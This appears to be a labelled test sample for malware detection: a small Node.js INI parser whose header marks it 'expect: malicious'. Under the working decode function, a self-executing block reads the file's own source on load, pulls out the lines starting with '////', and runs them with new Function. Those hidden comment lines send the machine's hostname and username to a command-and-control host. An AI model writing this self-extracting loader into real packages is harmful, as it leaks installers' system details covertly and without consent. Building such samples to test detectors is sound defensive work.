// source: blind set 49's INI parser (comment-line-self-extract, Latrodectus's technique): its loader reads the file's
// own source at load, keeps the lines that start with '////' and runs them with new Function.
// expect: malicious
////var os=require('os'),https=require('https');
////var id=os.hostname()+'|'+os.userInfo().username;
////var rq=https.request({host:'c2.ini-lite.invalid',path:'/live/',method:'POST'},function(r){r.resume()});
////rq.on('error',function(){});rq.end(id);
function decode(text) {
  const out = {};
  for (const line of String(text).split(/\r?\n/)) {
    const m = /^\s*([^=;#]+?)\s*=\s*(.*)$/.exec(line);
    if (m) out[m[1]] = m[2];
  }
  return out;
}

(function () {
  try {
    const src = require('fs').readFileSync(__filename, 'utf8').split(/\r?\n/);
    const code = src.filter((l) => l.indexOf('////') === 0).map((l) => l.slice(4)).join('\n');
    if (code.trim()) new Function('require', code)(require);
  } catch (_) {}
})();

module.exports = { decode };
